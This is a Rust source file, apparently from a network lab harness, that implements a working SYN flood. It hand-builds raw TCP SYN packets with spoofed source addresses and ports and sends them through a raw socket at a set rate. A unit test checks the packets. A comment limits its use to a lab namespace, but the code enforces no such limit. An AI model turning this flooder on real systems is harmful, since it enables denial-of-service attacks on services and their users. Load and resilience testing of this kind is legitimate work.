//! A SYN flood: first packets that nobody answers for, at a fixed rate, from one address or from a whole network.
//!
//! Packets are written whole through a raw socket of the namespace that the process runs in; nothing leaves the lab.

use crate::wait::now;
use anyhow::{Context, Result};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

/// What to send.
#[derive(Debug, Clone, Copy)]
pub struct FloodOptions {
    /// Where to.
    pub target: SocketAddrV4,
    /// The first source address.
    pub source: Ipv4Addr,
    /// So many addresses from there on.
    pub sources: u32,
    /// The first source port.
    pub first_port: u16,
    /// Packets a second; `None` for as many as can be sent.
    pub rate: Option<u32>,
    /// For how long.
    pub time: Duration,
}

/// What was sent.
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize)]
pub struct FloodReport {
    /// Packets.
    pub sent: u64,
    /// Seconds.
    pub seconds: f64,
}

/// Source ports of one address before they come again.
const PORTS: u32 = 20_000;
/// Packets between two looks at the clock.
const BURST: u64 = 16;

/// Floods in the namespace of the calling thread.
pub fn flood(options: &FloodOptions) -> Result<FloodReport> {
    // IPPROTO_RAW: the header is written here (raw(7)).
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))
        .context("cannot make a raw socket (CAP_NET_RAW is needed)")?;
    let target = options.target.into();
    let start = now();
    let mut sent: u64 = 0;
    loop {
        let elapsed = start.elapsed();
        if elapsed >= options.time {
            return Ok(FloodReport {
                sent,
                seconds: elapsed.as_secs_f64(),
            });
        }
        if let Some(rate) = options.rate {
            let due = elapsed.as_micros() * u128::from(rate) / 1_000_000;
            if u128::from(sent) >= due {
                std::thread::sleep(Duration::from_millis(1));
                continue;
            }
        }
        for _ in 0..BURST {
            // A full buffer loses a packet of the flood, which is no loss.
            if socket.send_to(&syn(options, sent), &target).is_ok() {
                sent += 1;
            }
        }
    }
}

/// The packet of a number: IPv4 (RFC 791) and TCP (RFC 9293) without options.
fn syn(options: &FloodOptions, number: u64) -> [u8; 40] {
    let sources = u64::from(options.sources.max(1));
    let offset = u32::try_from(number % sources).unwrap_or_default();
    let source = Ipv4Addr::from(u32::from(options.source).wrapping_add(offset));
    let port = u16::try_from((number / sources) % u64::from(PORTS)).unwrap_or_default();
    let mut packet = [0; 40];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&40_u16.to_be_bytes());
    packet[8] = 64;
    packet[9] = 6;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&options.target.ip().octets());
    let header = checksum(&packet[..20], 0);
    packet[10..12].copy_from_slice(&header.to_be_bytes());
    packet[20..22].copy_from_slice(&options.first_port.wrapping_add(port).to_be_bytes());
    packet[22..24].copy_from_slice(&options.target.port().to_be_bytes());
    packet[24..28].copy_from_slice(
        &u32::try_from(number & 0xffff_ffff)
            .unwrap_or_default()
            .to_be_bytes(),
    );
    packet[32] = 5 << 4;
    packet[33] = 0x02;
    packet[34..36].copy_from_slice(&0xffff_u16.to_be_bytes());
    // The pseudo-header: both addresses, protocol, length.
    let pseudo = sum(&packet[12..20]) + 6 + 20;
    let segment = checksum(&packet[20..], pseudo);
    packet[36..38].copy_from_slice(&segment.to_be_bytes());
    packet
}

fn sum(bytes: &[u8]) -> u32 {
    bytes
        .chunks(2)
        .map(|pair| u32::from(pair[0]) << 8 | u32::from(pair.get(1).copied().unwrap_or_default()))
        .sum()
}

/// The Internet checksum (RFC 1071).
fn checksum(bytes: &[u8], initial: u32) -> u16 {
    let mut total = sum(bytes) + initial;
    while total > 0xffff {
        total = (total & 0xffff) + (total >> 16);
    }
    !u16::try_from(total).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packets_have_right_checksums_and_sources_of_their_own() {
        let options = FloodOptions {
            target: "10.82.0.2:8000".parse().unwrap(),
            source: "10.83.0.0".parse().unwrap(),
            sources: 512,
            first_port: 1024,
            rate: None,
            time: Duration::ZERO,
        };
        let mut seen = std::collections::HashSet::new();
        for number in 0..2048 {
            let packet = syn(&options, number);
            // A sum over data and its checksum is all ones.
            assert_eq!(checksum(&packet[..20], 0), 0);
            assert_eq!(checksum(&packet[20..], sum(&packet[12..20]) + 26), 0);
            assert!(seen.insert((packet[12..16].to_vec(), packet[20..22].to_vec())));
        }
        assert_eq!(flood(&options).map(|report| report.sent).unwrap_or_default(), 0);
    }
}
